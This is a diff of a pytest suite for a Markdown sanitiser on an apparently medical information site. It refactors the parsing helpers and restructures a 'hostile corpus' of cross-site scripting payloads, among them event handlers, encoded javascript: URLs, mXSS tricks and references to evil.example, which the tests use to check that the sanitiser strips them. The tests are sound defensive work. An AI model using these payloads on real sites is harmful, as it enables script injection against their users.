@@ -1,48 +1,14 @@
 """Markdown rendering and sanitising (SPEC §5): what content editors rely on, what must never
 reach a page whatever they paste, and time linear in what they paste (SPEC §14)."""
 
-from html.parser import HTMLParser
-
 import pytest
 from hypothesis import HealthCheck, given
 from hypothesis import settings as hypothesis_settings
 from hypothesis import strategies as st
 
 from clinic.markdown import render_markdown, sanitise
+from tests.pages import find_all, parse
 from tests.timing import growth
-
-
-class Element:
-    def __init__(self, tag, attrs):
-        self.tag = tag
-        self.attrs = dict(attrs)
-        self.attr_names = [name for name, _ in attrs]
-
-
-class Collector(HTMLParser):
-    """Every element of a fragment, with tag and attribute names lower-cased and entities decoded,
-    as a browser would see them."""
-
-    def __init__(self):
-        super().__init__(convert_charrefs=True)
-        self.elements = []
-
-    def handle_starttag(self, tag, attrs):
-        self.elements.append(Element(tag, attrs))
-
-    def handle_startendtag(self, tag, attrs):
-        self.elements.append(Element(tag, attrs))
-
-
-def parse(fragment):
-    collector = Collector()
-    collector.feed(fragment)
-    collector.close()
-    return collector.elements
-
-
-def find(fragment, tag):
-    return [element for element in parse(fragment) if element.tag == tag]
 
 
 def url_scheme(value):
@@ -72,7 +38,7 @@ def assert_safe(output):
     assert "<script" not in lowered
     for element in parse(output):
         assert element.tag not in FORBIDDEN_TAGS, (element.tag, output)
-        for name in element.attr_names:
+        for name in element.attrs:
             assert not name.startswith("on"), (element.tag, name, output)
             assert name not in {"style", "srcdoc", "formaction", "action"}, (name, output)
         for name, value in element.attrs.items():
@@ -93,22 +59,22 @@ def site_url(settings):
 
 
 def test_section_headings_get_anchor_ids():
-    headings = find(html_of("## What is SLE?\n\ntext\n\n### Living with lupus"), "h2")
+    headings = find_all(parse(html_of("## What is SLE?\n\ntext\n\n### Living with lupus")), "h2")
     assert [h.attrs.get("id") for h in headings] == ["what-is-sle"]
-    assert find(html_of("## What is SLE?\n\n### Living with lupus"), "h3")[0].attrs == {
+    assert find_all(parse(html_of("## What is SLE?\n\n### Living with lupus")), "h3")[0].attrs == {
         "id": "living-with-lupus"
     }
 
 
 def test_repeated_headings_get_distinct_ids():
-    headings = find(html_of("## Risks\n\n## Risks\n\n## Risks"), "h2")
+    headings = find_all(parse(html_of("## Risks\n\n## Risks\n\n## Risks")), "h2")
     ids = [h.attrs["id"] for h in headings]
     assert len(set(ids)) == 3
 
 
 def test_a_hash_heading_becomes_h2_so_the_page_title_stays_the_only_h1():
     output = html_of("# Pasted title\n\ntext\n\n<h1>Raw HTML title</h1>\n\n<H1>Shouting</H1>")
-    assert find(output, "h1") == []
+    assert find_all(parse(output), "h1") == []
     assert [h.tag for h in parse(output) if h.tag.startswith("h")] == ["h2", "h2", "h2"]
 
 
@@ -140,11 +106,11 @@ def test_subsections_do_not_count_towards_the_table_of_contents():
 
 def test_three_sections_get_a_table_of_contents_linking_to_their_ids():
     rendered = render_markdown("## What is SLE?\n\n## Symptoms\n\n### Skin\n\n## Treatment")
-    links = find(rendered.toc_html, "a")
+    links = find_all(parse(rendered.toc_html), "a")
     assert [a.attrs["href"] for a in links] == ["#what-is-sle", "#symptoms", "#treatment"]
     body_ids = {e.attrs.get("id") for e in parse(rendered.html)}
     assert {a.attrs["href"][1:] for a in links} <= body_ids
-    assert find(rendered.toc_html, "ol")[0].attrs == {"class": "toc-list"}
+    assert find_all(parse(rendered.toc_html), "ol")[0].attrs == {"class": "toc-list"}
     assert "Symptoms" in rendered.toc_html and "Skin" not in rendered.toc_html
 
 
@@ -166,15 +132,15 @@ def test_table_of_contents_is_safe_when_headings_carry_html():
         "## <img src=x onerror=alert(1)> Images\n\n## <b onclick=alert(1)>Bold</b>\n\n"
         "## <a href='javascript:alert(1)'>Link</a>"
     )
-    assert len(find(rendered.toc_html, "li")) == 3
+    assert len(find_all(parse(rendered.toc_html), "li")) == 3
     assert_safe(rendered.toc_html)
     assert "onerror" not in rendered.toc_html and "javascript" not in rendered.toc_html
 
 
 def test_a_heading_that_starts_with_a_number_keeps_its_anchor_and_toc_entry():
     rendered = render_markdown("## 5-year results\n\n## Risks\n\n## Costs")
-    assert find(rendered.html, "h2")[0].attrs.get("id")
-    assert len(find(rendered.toc_html, "li")) == 3
+    assert find_all(parse(rendered.html), "h2")[0].attrs.get("id")
+    assert len(find_all(parse(rendered.toc_html), "li")) == 3
 
 
 # --- Tables, footnotes, lists, emphasis ----------------------------------------------------------
@@ -182,7 +148,7 @@ def test_a_heading_that_starts_with_a_number_keeps_its_anchor_and_toc_entry():
 
 def test_tables_keep_alignment_as_an_attribute_not_a_style():
     output = html_of("| Outcome | Share |\n|:--|--:|\n| Alive | 84 % |")
-    cells = find(output, "th") + find(output, "td")
+    cells = find_all(parse(output), "th") + find_all(parse(output), "td")
     assert [c.attrs for c in cells] == [
         {"align": "left"},
         {"align": "right"},
@@ -195,15 +161,15 @@ def test_tables_keep_alignment_as_an_attribute_not_a_style():
 
 def test_footnotes_link_to_the_note_and_back():
     output = html_of("Survival was high.[^1]\n\n[^1]: Wang et al., 2018.")
-    ref = find(output, "sup")[0]
-    links = find(output, "a")
+    ref = find_all(parse(output), "sup")[0]
+    links = find_all(parse(output), "a")
     forward = next(a for a in links if a.attrs.get("class") == "footnote-ref")
     back = next(a for a in links if a.attrs.get("class") == "footnote-backref")
-    note = next(li for li in find(output, "li") if li.attrs.get("id"))
+    note = next(li for li in find_all(parse(output), "li") if li.attrs.get("id"))
     assert forward.attrs["href"] == "#" + note.attrs["id"]
     assert back.attrs["href"] == "#" + ref.attrs["id"]
     assert back.attrs["title"] == "Back to the text of note 1"
-    assert find(output, "div")[0].attrs == {"class": "footnote"}
+    assert find_all(parse(output), "div")[0].attrs == {"class": "footnote"}
     assert "Wang et al., 2018." in output
 
 
@@ -213,7 +179,7 @@ def test_lists_render_ordered_unordered_and_nested():
 
 
 def test_an_ordered_list_keeps_its_start_number():
-    assert find(html_of("3. third\n4. fourth"), "ol")[0].attrs == {"start": "3"}
+    assert find_all(parse(html_of("3. third\n4. fourth")), "ol")[0].attrs == {"start": "3"}
 
 
 def test_emphasis_and_strong_render():
@@ -226,14 +192,14 @@ def test_emphasis_and_strong_render():
 def test_code_blocks_show_html_as_text():
     output = html_of("Write `<script>` like this:\n\n    <script>alert(1)</script>\n")
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output
-    assert find(output, "script") == []
+    assert find_all(parse(output), "script") == []
 
 
 # --- Links ---------------------------------------------------------------------------------------
 
 
 def links_of(text):
-    return {a.attrs.get("href"): a.attrs for a in find(html_of(text), "a")}
+    return {a.attrs.get("href"): a.attrs for a in find_all(parse(html_of(text)), "a")}
 
 
 @pytest.mark.parametrize(
@@ -291,7 +257,7 @@ def test_link_titles_are_kept():
 
 def test_links_with_other_schemes_lose_their_href():
     for href in ["ftp://example.org/file", "file:///etc/passwd", "javascript:alert(1)"]:
-        anchors = find(html_of(f"[x]({href})"), "a")
+        anchors = find_all(parse(html_of(f"[x]({href})")), "a")
         assert [a.attrs for a in anchors] == [{}], href
 
 
@@ -303,7 +269,7 @@ def test_protocol_relative_links_to_other_sites_count_as_external():
 
 
 def test_images_served_by_the_site_keep_their_src():
-    images = find(html_of('![MSC chart](/static/img/chart.png "A chart")'), "img")
+    images = find_all(parse(html_of('![MSC chart](/static/img/chart.png "A chart")')), "img")
     assert images[0].attrs == {
         "alt": "MSC chart",
         "src": "/static/img/chart.png",
@@ -323,7 +289,7 @@ def test_images_served_by_the_site_keep_their_src():
     ],
 )
 def test_images_from_anywhere_else_lose_their_src(src):
-    images = find(html_of(f"![alt text]({src})"), "img")
+    images = find_all(parse(html_of(f"![alt text]({src})")), "img")
     assert images[0].attrs == {"alt": "alt text"}
 
 
@@ -337,7 +303,7 @@ def test_images_from_anywhere_else_lose_their_src(src):
     ],
 )
 def test_images_that_browsers_would_fetch_from_another_host_lose_their_src(snippet):
-    for image in find(html_of(snippet), "img"):
+    for image in find_all(parse(html_of(snippet)), "img"):
         assert "src" not in image.attrs
 
 
@@ -405,99 +371,87 @@ def test_the_time_to_sanitise_grows_linearly_with_unclosed_hidden_elements(openi
 
 # --- The hostile corpus --------------------------------------------------------------------------
 
-HOSTILE = [
-    pytest.param("<script>alert(1)</script>", id="script"),
-    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
-    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-src-upper"),
-    pytest.param("<script>alert(1)", id="script-unclosed"),
-    pytest.param("<script\n>alert(1)</script\n>", id="script-newline-in-tag"),
-    pytest.param("<scr<script></script>ipt>alert(1)</script>", id="script-nested-split"),
-    pytest.param("<script/x>alert(1)</script>", id="script-slash-attr"),
-    pytest.param(
-        "Text\n\n<script type=module>import('//evil.example')</script>", id="script-module"
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
+    "script-src-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "script-unclosed": "<script>alert(1)",
+    "script-newline-in-tag": "<script\n>alert(1)</script\n>",
+    "script-nested-split": "<scr<script></script>ipt>alert(1)</script>",
+    "script-slash-attr": "<script/x>alert(1)</script>",
+    "script-module": "Text\n\n<script type=module>import('//evil.example')</script>",
+    "img-onerror": "<img src=x onerror=alert(1)>",
+    "img-onerror-upper": '<img src="/ok.png" ONERROR="alert(1)">',
+    "body-onload": "<body onload=alert(1)>hello</body>",
+    "p-onclick": "<p onclick=alert(1)>click</p>",
+    "a-onmouseover": '<a href="/" onmouseover="alert(1)">hover</a>',
+    "div-slash-onmouseover": "<div/onmouseover='alert(1)'>x</div>",
+    "td-on": '<table><tr><td onclick="x()" style="color:red">1</td></tr></table>',
+    "h2-onfocus": "<h2 onfocus=alert(1) tabindex=0 autofocus>Hi</h2>",
+    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
+    "a-javascript": '<a href="javascript:alert(1)">x</a>',
+    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
+    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    "a-javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+    "a-javascript-decimal-entities": (
+        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
     ),
-    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
-    pytest.param('<img src="/ok.png" ONERROR="alert(1)">', id="img-onerror-upper"),
-    pytest.param("<body onload=alert(1)>hello</body>", id="body-onload"),
-    pytest.param("<p onclick=alert(1)>click</p>", id="p-onclick"),
-    pytest.param('<a href="/" onmouseover="alert(1)">hover</a>', id="a-onmouseover"),
-    pytest.param("<div/onmouseover='alert(1)'>x</div>", id="div-slash-onmouseover"),
-    pytest.param('<table><tr><td onclick="x()" style="color:red">1</td></tr></table>', id="td-on"),
-    pytest.param("<h2 onfocus=alert(1) tabindex=0 autofocus>Hi</h2>", id="h2-onfocus"),
-    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
-    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-javascript"),
-    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a-javascript-mixed-case"),
-    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="a-javascript-tab-entity"),
-    pytest.param('<a href="jav&#x0A;ascript:alert(1)">x</a>', id="a-javascript-newline-entity"),
-    pytest.param(
-        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-        id="a-javascript-decimal-entities",
-    ),
-    pytest.param('<a href="&#x6A;avascript&colon;alert(1)">x</a>', id="a-javascript-named-colon"),
-    pytest.param('<a href=" \x01javascript:alert(1)">x</a>', id="a-javascript-leading-control"),
-    pytest.param("<IMG SRC=JaVaScRiPt:alert(1)>", id="img-javascript"),
-    pytest.param(
-        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', id="a-data"
-    ),
-    pytest.param('<img src="data:image/svg+xml;base64,PHN2Zz4=">', id="img-data"),
-    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="a-vbscript"),
-    pytest.param('<iframe src="https://evil.example/"></iframe>', id="iframe"),
-    pytest.param('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', id="iframe-srcdoc"),
-    pytest.param('<IFRAME SRC="javascript:alert(1)">', id="iframe-unclosed"),
-    pytest.param('<object data="https://evil.example/x.swf"></object>', id="object"),
-    pytest.param('<embed src="https://evil.example/x.swf">', id="embed"),
-    pytest.param("<style>body{display:none}</style>", id="style-element"),
-    pytest.param("<STYLE>@import 'https://evil.example/x.css';", id="style-unclosed"),
-    pytest.param('<p style="position:fixed;inset:0;z-index:9999">cover</p>', id="style-attr"),
-    pytest.param('<div style="width: expression(alert(1))">x</div>', id="css-expression"),
-    pytest.param('<div style="background:url(javascript:alert(1))">x</div>', id="css-url"),
-    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
-    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
-    pytest.param(
-        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
-        id="svg-xlink",
-    ),
-    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mxss"),
-    pytest.param('<math href="javascript:alert(1)">x</math>', id="math-href"),
-    pytest.param(
+    "a-javascript-named-colon": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+    "a-javascript-leading-control": '<a href=" \x01javascript:alert(1)">x</a>',
+    "img-javascript": "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "a-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    "img-data": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
+    "iframe-unclosed": '<IFRAME SRC="javascript:alert(1)">',
+    "object": '<object data="https://evil.example/x.swf"></object>',
+    "embed": '<embed src="https://evil.example/x.swf">',
+    "style-element": "<style>body{display:none}</style>",
+    "style-unclosed": "<STYLE>@import 'https://evil.example/x.css';",
+    "style-attr": '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
+    "css-expression": '<div style="width: expression(alert(1))">x</div>',
+    "css-url": '<div style="background:url(javascript:alert(1))">x</div>',
+    "svg-onload": "<svg onload=alert(1)>",
+    "svg-script": "<svg><script>alert(1)</script></svg>",
+    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "math-href": '<math href="javascript:alert(1)">x</math>',
+    "form-input-button": (
         '<form action="https://evil.example/"><input name="password" type="password">'
-        '<button formaction="javascript:alert(1)">Send</button></form>',
-        id="form-input-button",
+        '<button formaction="javascript:alert(1)">Send</button></form>'
     ),
-    pytest.param("<input onfocus=alert(1) autofocus>", id="input-autofocus"),
-    pytest.param("<select><option>a</option></select><textarea>b</textarea>", id="select"),
-    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta"),
-    pytest.param('<base href="https://evil.example/">', id="base-href"),
-    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link-css"),
-    pytest.param("[click](javascript:alert(1))", id="md-link-javascript"),
-    pytest.param("[click](JAVASCRIPT:alert(1))", id="md-link-javascript-upper"),
-    pytest.param("[click]( javascript:alert(1) )", id="md-link-javascript-spaces"),
-    pytest.param("[click](javascript&#58;alert(1))", id="md-link-javascript-entity"),
-    pytest.param("[click][ref]\n\n[ref]: javascript:alert(1)", id="md-reference-javascript"),
-    pytest.param("![x](data:image/png;base64,iVBORw0KGgo=)", id="md-image-data"),
-    pytest.param("[x](data:text/html,<script>alert(1)</script>)", id="md-link-data"),
-    pytest.param("[x](vbscript:msgbox)", id="md-link-vbscript"),
-    pytest.param('![x](/ok.png" onerror="alert(1))', id="md-image-attr-breakout"),
-    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
-    pytest.param("<data:text/html,<script>alert(1)</script>>", id="autolink-data"),
-    pytest.param("<!-- <script>alert(1)</script> -->", id="comment-script"),
-    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="comment-breakout"),
-    pytest.param("<!--[if IE]><script>alert(1)</script><![endif]-->", id="conditional-comment"),
-    pytest.param(
-        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-        id="noscript-mxss",
-    ),
-    pytest.param("<xmp><script>alert(1)</script></xmp>", id="xmp"),
-    pytest.param("<template><script>alert(1)</script></template>", id="template-element"),
-    pytest.param("{% load static %}{{ request.user }}{% csrf_token %}", id="django-template-tags"),
-    pytest.param("<video><source onerror=alert(1)></video>", id="video-source"),
-    pytest.param('<h2 id="main">Hijack</h2>', id="id-main"),
-    pytest.param('<div class="position-fixed top-0 start-0 w-100 h-100">x</div>', id="class"),
-    pytest.param('<a href="/" target="_blank" ping="https://evil.example/">x</a>', id="a-ping"),
-]
+    "input-autofocus": "<input onfocus=alert(1) autofocus>",
+    "select": "<select><option>a</option></select><textarea>b</textarea>",
+    "meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "base-href": '<base href="https://evil.example/">',
+    "link-css": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "md-link-javascript": "[click](javascript:alert(1))",
+    "md-link-javascript-upper": "[click](JAVASCRIPT:alert(1))",
+    "md-link-javascript-spaces": "[click]( javascript:alert(1) )",
+    "md-link-javascript-entity": "[click](javascript&#58;alert(1))",
+    "md-reference-javascript": "[click][ref]\n\n[ref]: javascript:alert(1)",
+    "md-image-data": "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "md-link-data": "[x](data:text/html,<script>alert(1)</script>)",
+    "md-link-vbscript": "[x](vbscript:msgbox)",
+    "md-image-attr-breakout": '![x](/ok.png" onerror="alert(1))',
+    "autolink-javascript": "<javascript:alert(1)>",
+    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
+    "comment-script": "<!-- <script>alert(1)</script> -->",
+    "comment-breakout": "<!--><img src=x onerror=alert(1)>-->",
+    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "xmp": "<xmp><script>alert(1)</script></xmp>",
+    "template-element": "<template><script>alert(1)</script></template>",
+    "django-template-tags": "{% load static %}{{ request.user }}{% csrf_token %}",
+    "video-source": "<video><source onerror=alert(1)></video>",
+    "id-main": '<h2 id="main">Hijack</h2>',
+    "class": '<div class="position-fixed top-0 start-0 w-100 h-100">x</div>',
+    "a-ping": '<a href="/" target="_blank" ping="https://evil.example/">x</a>',
+}
 
 
-@pytest.mark.parametrize("snippet", HOSTILE)
+@pytest.mark.parametrize("snippet", HOSTILE.values(), ids=HOSTILE.keys())
 def test_hostile_input_renders_safe(snippet):
     for wrapped in (snippet, f"## Section\n\nSome text {snippet} more.\n\n- item {snippet}"):
         output = html_of(wrapped)
@@ -518,7 +472,7 @@ def test_hostile_input_renders_safe(snippet):
 
 
 def test_the_hostile_corpus_is_large_enough():
-    assert len({p.values[0] for p in HOSTILE}) >= 25
+    assert len(set(HOSTILE.values())) >= 25
 
 
 # --- Property: whatever is pasted, the output is safe --------------------------------------------
@@ -557,8 +511,6 @@ TAGS = st.builds(
 )  # fmt: skip
 PASTED = st.lists(st.one_of(st.text(max_size=12), FRAGMENTS, TAGS), max_size=20).map("".join)
 
-DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "base"}
-
 
 @hypothesis_settings(
     max_examples=200,
@@ -569,12 +521,4 @@ DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math",
 @given(text=st.one_of(st.text(), PASTED))
 def test_no_pasted_text_produces_scripts_handlers_or_dangerous_urls(text):
     for output in (html_of(text), html_of(text, top_heading=3), render_markdown(text).toc_html):
-        assert "<script" not in output.lower()
-        for element in parse(output):
-            assert element.tag not in DANGEROUS_TAGS, (element.tag, text, output)
-            assert not any(name.startswith("on") for name in element.attr_names), (text, output)
-            assert "style" not in element.attrs, (text, output)
-            for name in ("href", "src"):
-                value = element.attrs.get(name)
-                if value is not None:
-                    assert url_scheme(value) not in FORBIDDEN_SCHEMES, (text, output)
+        assert_safe(output)
